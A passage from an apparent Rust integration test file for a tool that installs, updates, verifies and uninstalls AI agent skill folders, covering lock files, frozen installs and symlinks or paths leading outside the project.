    // A teammate's update: a new source and lock arrive; this copy is the old one.
    std::fs::write(p.join("src/notes/SKILL.md"), NOTES.replace("Keeps", "Kept")).unwrap();
    let other = World::new();
    common::copy_tree(&p.join("src"), &other.proj().join("src"));
    other.ok(&["install", "./src/notes", "--agent", "claude", "--copy"]);
    std::fs::copy(
        other.proj().join("skills-lock.json"),
        p.join("skills-lock.json"),
    )
    .unwrap();
    std::fs::remove_dir_all(p.join(".agents/skills/notes")).unwrap();
    let out = w.ok(&["install", "--frozen", "--agent", "claude"]);
    assert!(
        out.contains("claude: copied to .claude/skills/notes"),
        "{out}"
    );
    let copied = std::fs::read_to_string(p.join(".claude/skills/notes/SKILL.md")).unwrap();
    assert!(copied.contains("Kept"), "{copied}");
    // A link whose copy is gone is this install's: uninstall removes it.
    w.ok(&["builtin", "install", "tmux", "--agent", "claude"]);
    std::fs::remove_dir_all(p.join(".agents/skills/tmux")).unwrap();
    w.ok(&["uninstall", "tmux", "--agent", "claude"]);
    assert!(std::fs::symlink_metadata(p.join(".claude/skills/tmux")).is_err());
    w.ok(&["builtin", "install", "tmux", "--agent", "claude"]);
}

#[test]
fn update_and_verify_work_on_the_agents_each_skill_was_installed_for() {
    let w = World::new();
    let p = w.proj();
    write_skill(
        &p.join("src"),
        "beta",
        "---\nname: beta\ndescription: B. Use b.\n---\nb\n",
    );
    w.ok(&["install", "./src/notes", "--agent", "claude"]);
    w.ok(&["install", "./src/beta", "--agent", "nanobot"]);
    assert_eq!(
        w.ok(&["verify", "--agent", "claude"]),
        "beta: ok\nnotes: ok\n"
    );
    w.ok(&["update", "--agent", "claude"]);
    assert!(std::fs::symlink_metadata(p.join(".claude/skills/beta")).is_err());
    assert!(std::fs::symlink_metadata(p.join("skills/notes")).is_err());
    // A copy that is no skill is left whole, links included, when uninstall refuses it.
    std::fs::rename(
        p.join(".agents/skills/notes/SKILL.md"),
        p.join(".agents/skills/notes/README.md"),
    )
    .unwrap();
    let (code, _, stderr) = w.skill(&["uninstall", "notes", "--agent", "claude"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(std::fs::symlink_metadata(p.join(".claude/skills/notes")).is_ok());
}

#[test]
fn a_lock_names_sources_where_they_really_are_and_says_when_one_is_gone() {
    let w = World::new();
    let p = w.proj();
    // `link/../notes` is `../notes` beside the project's parent's, not the project's `notes`.
    write_skill(w.tmp.path(), "notes", NOTES);
    std::fs::create_dir_all(w.tmp.path().join("deep/inner")).unwrap();
    std::os::unix::fs::symlink(w.tmp.path().join("deep/inner"), p.join("link")).unwrap();
    common::copy_tree(&p.join("src/notes"), &p.join("notes"));
    let (code, _, stderr) = w.skill(&["install", "link/../../notes", "--agent", "claude"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("is outside the project"), "{stderr}");
    assert_eq!(w.lock()["skills"]["notes"]["source"], "../notes");
    std::fs::remove_dir_all(p.join("src")).unwrap();
    std::fs::write(
        p.join("skills-lock.json"),
        "{\"version\": 1, \"skills\": {\"notes\": {\"source\": \"./src/notes\", \"sourceType\": \"local\", \"agents\": [\"claude\"]}}}",
    )
    .unwrap();
    let (code, _, stderr) = w.skill(&["update", "--agent", "claude"]);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("its source ./src/notes does not exist"),
        "{stderr}"
    );
}

#[test]
fn a_skills_link_out_of_the_project_stops_only_the_agents_that_read_it() {
    let w = World::new();
    let common_skills = w.tmp.path().join("common/skills");
    std::fs::create_dir_all(&common_skills).unwrap();
    std::os::unix::fs::symlink(&common_skills, w.proj().join("skills")).unwrap();
    w.ok(&["install", "./src/notes", "--agent", "codex"]);
    assert_eq!(w.ok(&["verify", "--agent", "codex"]), "notes: ok\n");
    let (code, _, stderr) = w.skill(&["install", "./src/notes", "--agent", "nanobot"]);
    assert_eq!(code, 2);
    assert!(stderr.contains("leads out of the project"), "{stderr}");
    assert_eq!(std::fs::read_dir(&common_skills).unwrap().count(), 0);
}

#[test]
fn a_vercel_lock_keyed_by_the_frontmatter_name_is_restored_under_it() {
    let w = World::new();
    let p = w.proj();
    common::copy_tree(&p.join("src/notes"), &p.join("src/notes-folder"));
    let hash = {
        let probe = World::new();
        probe.ok(&["install", "./src/notes", "--agent", "codex"]);
        probe.lock()["skills"]["notes"]["computedHash"].clone()
    };
    std::fs::write(
        p.join("skills-lock.json"),
        format!("{{\"version\": 1, \"skills\": {{\"notes\": {{\"source\": \"./src/notes-folder\", \"sourceType\": \"local\", \"computedHash\": {hash}}}}}}}"),
    )
    .unwrap();
    let out = w.ok(&["install", "--frozen", "--agent", "codex"]);
    assert!(out.contains("Installed notes as locked"), "{out}");
    assert!(p.join(".agents/skills/notes/SKILL.md").is_file());
}
